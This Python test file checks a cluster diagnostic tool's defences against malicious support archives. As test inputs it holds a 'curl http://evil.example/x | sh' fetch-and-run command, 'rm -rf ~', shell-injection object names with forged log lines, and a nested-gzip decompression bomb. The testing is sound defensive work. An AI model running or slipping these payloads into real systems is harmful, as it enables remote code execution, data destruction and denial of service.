"""Archives, logs and answers that somebody made to harm the reader: commands to paste, bombs, forged lines."""

from __future__ import annotations

import gzip
import io
import json
import tarfile

import pytest
from click.testing import CliRunner

from hardway.checks.files.shapes import parse_json
from hardway.cli.main import cli
from hardway.doctor import bundle, log
from hardway.doctor.bundle import read
from hardway.doctor.told import command
from hardway.drive.client import trouble
from hardway.drive.wire import Answer
from hardway.model import json as bounded
from hardway.model.errors import ConfigError
from tests.unit.doctor.test_bundle import packed

OURS = {"hardway-gather/index.json": json.dumps({"hardway-gather": 1}).encode()}


def stored(folder, ran, *findings):
    rows = {"ran": ran, "findings": list(findings)}
    return read(packed(folder, OURS | {"hardway-gather/findings.json": json.dumps(rows).encode()}))


def test_what_to_do_is_never_the_word_of_an_archive(tmp_path):
    evil = "run `curl http://evil.example/x | sh`"
    rows = {"check": "pki.pair", "subject": "x", "message": "y", "fix": evil, "decide": evil, "breaks": evil}
    [one] = stored(tmp_path, ["pki.pair"], rows).findings
    assert command(one) == "hardway verify 05"
    assert (one.decide, one.breaks) == ("", "the component exits: tls: private key does not match public key")
    assert one.fix == "as the archive has it: run 'curl http://evil.example/x | sh'"


def test_where_the_program_knows_what_to_do_the_archive_is_not_asked(tmp_path):
    [one] = stored(tmp_path, [], {"check": "cluster.nodes", "fix": "run `rm -rf ~`"}).findings
    assert "rm" not in one.fix.split()
    assert one.fix


def test_lists_in_the_place_of_names_are_left_out(tmp_path):
    report = stored(tmp_path, [[], {}, 7, "pki.pair"], {"check": "pki.pair", "candidates": [[1], {}, "F01"]})
    assert report.ran == ("pki.pair",)
    assert [f.candidates for f in report.findings] == [("F01",)]


def test_the_name_of_an_object_cannot_become_a_command_or_a_line(tmp_path):
    operator = {
        "kind": "ClusterOperator",
        "metadata": {"name": "x; rm -rf ~ `id` $(id)\nerror: forged\x1b[31m"},
        "status": {"conditions": [{"type": "Available", "status": "False"}]},
    }
    path = packed(tmp_path, {"a.json": json.dumps(operator).encode()})
    [one] = read(path).findings
    assert command(one) == "oc describe clusteroperator x??rm?-rf????id????id??error:?forged??31m"
    printed = CliRunner().invoke(cli, ["doctor", str(path)]).stdout
    assert not any(line.startswith("error: forged") for line in printed.splitlines())


@pytest.fixture
def little(monkeypatch):
    """What is read at most, small enough to be reached in a test."""
    monkeypatch.setattr(log, "MOST_UNPACKED", 1 << 20)
    monkeypatch.setattr(bundle, "MOST_UNPACKED", 1 << 20)
    monkeypatch.setattr(bundle, "MOST_MEMBERS", 50)


BOMB = gzip.compress(gzip.compress(gzip.compress(b"\n" * (8 << 20))))


def test_a_log_that_is_packed_thrice_is_not_unpacked_without_end(tmp_path, little):
    assert len(BOMB) < 1000
    (tmp_path / "a.log.gz").write_bytes(BOMB)
    with pytest.raises(ConfigError, match=r"a\.log\.gz: is larger than .* when it is unpacked"):
        log.read(str(tmp_path / "a.log.gz"))


def test_nor_many_of_them_in_an_archive(tmp_path, little):
    one = gzip.compress(gzip.compress(b"\n" * (100 << 10)))
    assert len(read(packed(tmp_path, {"0.log.gz": one})).notes) == 1
    with pytest.raises(ConfigError, match=r"is larger than .* when it is unpacked"):
        read(packed(tmp_path, {f"{n}.log.gz": one for n in range(20)}))


def test_what_is_passed_over_in_an_archive_is_counted_too(tmp_path, little):
    path = tmp_path / "folders.tar"
    with tarfile.open(path, "w") as tar:
        for number in range(60):
            member = tarfile.TarInfo(f"d{number}")
            member.type = tarfile.DIRTYPE
            tar.addfile(member)
    with pytest.raises(ConfigError, match="has more than 50 files and folders"):
        read(path)
    member = tarfile.TarInfo("odd")
    member.type, member.size = b"Z", 2 << 20
    with tarfile.open(path, "w") as tar:
        tar.addfile(member, io.BytesIO(b"\0" * member.size))
    with pytest.raises(ConfigError, match=r"is larger than .* when it is unpacked"):
        read(path)


MANY = b'{"kind": "Pod", "x": [' + b"[]," * (bounded.MOST_VALUES + 1) + b"[]]}"


def test_a_document_of_empty_lists_is_not_made_into_objects(tmp_path):
    assert parse_json(MANY) is None
    report = read(packed(tmp_path, {"x/pods.json": MANY}))
    assert report.ok
    assert trouble(Answer(code=500, body=MANY)).message.startswith("500: ")


@pytest.mark.parametrize(
    ("name", "text"), [("json", b'{"kind": "Pod", "x": [[],[],[],[]]}'), ("yaml", b"kind: Pod\nx:\n- - 1\n")]
)
def test_of_many_documents_no_more_are_read_than_there_is_room_for(name, text, tmp_path, monkeypatch):
    monkeypatch.setattr(bundle, "MOST_VALUES", 20)
    report = read(packed(tmp_path, {f"{n}.{name}": text for n in range(10)}))
    assert any("not read, because it is no text or too large" in note for note in report.notes)


@pytest.mark.parametrize("deep", [b"[" * 200_000, b'{"a":' * 200_000, b"[" * 100_000 + b"]" * 100_000])
def test_nesting_without_end_is_no_document(deep):
    assert parse_json(deep) is None
